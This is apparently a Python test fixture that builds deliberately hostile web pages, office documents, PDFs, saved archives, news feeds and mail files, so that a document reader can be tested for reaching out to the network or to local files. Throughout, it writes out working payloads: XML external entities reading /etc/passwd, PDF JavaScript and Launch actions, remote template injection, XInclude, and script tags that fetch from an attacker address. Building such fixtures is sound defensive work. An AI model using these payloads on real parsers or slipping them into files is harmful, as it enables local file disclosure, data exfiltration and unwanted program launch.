# ruff: noqa: E501 - hostile files have long lines
"""Files that want to reach for the network, for other files or for a program."""

import io
import plistlib
import zipfile

from tests.reading import making
from tests.reading.pages import weblog
from tests.reading.stories import BRIDGE


def hostile_page(address: str) -> bytes:
    inside = f"""<base href="{address}/"><link rel="stylesheet" href="{address}/a.css"><meta http-equiv="refresh" content="0;url={address}/b">
<script src="{address}/c.js"></script><script>fetch("{address}/d"); document.title = "stolen"</script>"""
    shown = f"""<img src="{address}/e.png" onerror="steal()"><iframe src="{address}/f"></iframe><object data="{address}/g"></object>
<embed src="{address}/h"><svg><image xlink:href="{address}/i"/></svg><video src="{address}/j" poster="{address}/k"></video>
<a href="javascript:steal()" ping="{address}/l">words</a><style>@import url({address}/m); p {{background: url({address}/n)}}</style>"""
    page = weblog("Bridge to close for lorries", BRIDGE).replace("<head>", "<head>" + inside, 1)
    return page.replace('<div class="entry-content">', '<div class="entry-content">' + shown, 1).encode()


def hostile_word(address: str) -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{address}/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{address}/i.png" TargetMode="External"/>'
        '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>'
    )
    return making.repacked(making.docx(), {"word/_rels/document.xml.rels": relations.encode()})


def hostile_pdf(address: str) -> bytes:
    """A PDF that wants to open an address, run a script, start a program and load a picture from elsewhere."""
    lines = [(72.0, 760.0 - 16 * k, 11.0, words[:80]) for k, words in enumerate(BRIDGE)]
    wishes = (
        f"/OpenAction<</S/URI/URI({address}/o)>>/AA<</WC<</S/JavaScript/JS(steal\\(\\))>>/DC<</S/Launch/F({address}/l)>>>>"
        f"/AcroForm<</XFA({address}/x)>>/Names<</EmbeddedFiles<</Names[(a)<</FS/URL/F({address}/f)>>]>>>>"
    )
    return making.pdf([lines]).replace(b"<</Type/Catalog", b"<</Type/Catalog" + wishes.encode(), 1)


def hostile_saved(address: str) -> dict[str, bytes]:
    page = hostile_page(address)
    outside = f"Content-Location: {address}/page\nContent-Base: {address}\nMIME-Version".encode()
    archive = {
        "WebMainResource": {"WebResourceData": page, "WebResourceURL": f"{address}/w", "WebResourceTextEncodingName": "UTF-8"},
        "WebSubframeArchives": [{"WebMainResource": {"WebResourceURL": f"{address}/s", "WebResourceData": page}}],
    }  # fmt: skip
    xml = plistlib.dumps(archive, fmt=plistlib.FMT_XML)
    entity = (
        f'<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{address}/y">]><plist'.encode()
    )
    return {
        "page.mhtml": making.mhtml(page=page.decode()).replace(b"MIME-Version", outside, 1),
        "binary.webarchive": plistlib.dumps(archive, fmt=plistlib.FMT_BINARY),
        "text.webarchive": xml,
        "entity.webarchive": xml.replace(b"<plist", entity, 1).replace(b"UTF-8</string>", b"&x;&y;</string>"),
    }


def hostile_news(address: str) -> dict[str, bytes]:
    """Agency feeds and office documents with entities, includes, pictures and stylesheets from elsewhere."""
    remote = f'<remoteContent href="{address}/r" contenttype="text/html"/><inlineXML'.encode()
    style = f'?><?xml-stylesheet type="text/xsl" href="{address}/s.xsl"?><newsMessage'.encode()
    entity = f'?><!DOCTYPE newsMessage [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "{address}/y"> %y;]><newsMessage'
    picture = f'<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{address}/i.png" xlink:actuate="onLoad"/></draw:frame></office:text>'
    with zipfile.ZipFile(io.BytesIO(making.odt())) as packed:
        content = packed.read("content.xml").replace(b"</office:text>", picture.encode(), 1)
    return {
        "newsml.xml": making.newsml().replace(b"<inlineXML", remote, 1).replace(b"?><newsMessage", style, 1),
        "newsml-entity.xml": making.newsml()
        .replace(b"?><newsMessage", entity.encode(), 1)
        .replace(b"<p>", b"<p>&x;", 1),
        "picture.odt": making.repacked(making.odt(), {"content.xml": content}),
    }


def hostile_files(address: str) -> dict[str, bytes]:
    page = hostile_page(address)
    secret = f'<!DOCTYPE nitf SYSTEM "{address}/x.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{address}/y">]>'
    message = making.mail(page=page.decode(), plain=False).replace(
        b"MIME-Version",
        f'Content-Location: {address}/m\nX-Part: message/external-body; url="{address}"\nMIME-Version'.encode(),
    )
    template = making.rtf().replace(b"\\f0", b"{\\*\\template " + address.encode() + b"/t}{\\field{\\*\\fldinst INCLUDEPICTURE " + address.encode() + b"}}\\f0", 1)  # fmt: skip
    content = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "{address}/y">]><x>&y;</x>'.encode()
    return {
        **hostile_saved(address),
        **hostile_news(address),
        "wishes.pdf": hostile_pdf(address),
        "page.html": page,
        "mail.eml": message,
        "word.docx": hostile_word(address),
        "entity.docx": making.repacked(making.docx(), {"word/document.xml": content}),
        "entity.odt": making.repacked(making.odt(), {"content.xml": content}),
        "entity.xml": making.nitf(doctype=secret).replace(b"<p>", b"<p>&x;&y;", 1),
        "dtd.xml": making.nitf(doctype=f'<!DOCTYPE nitf SYSTEM "{address}/nitf.dtd">'),
        "template.rtf": template,
        "include.xml": making.nitf().replace(
            b"<block>", f'<block><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}/z"/>'.encode()
        ),
        "notes.md": f"![a]({address}/a.png) The ferry [sank]({address}/b).\n\n<img src='{address}/c.png'>\n".encode(),
        "item.json": making.ninjs().replace(b"<p>", f"<p><img src='{address}/a.png'>".encode(), 1),
    }
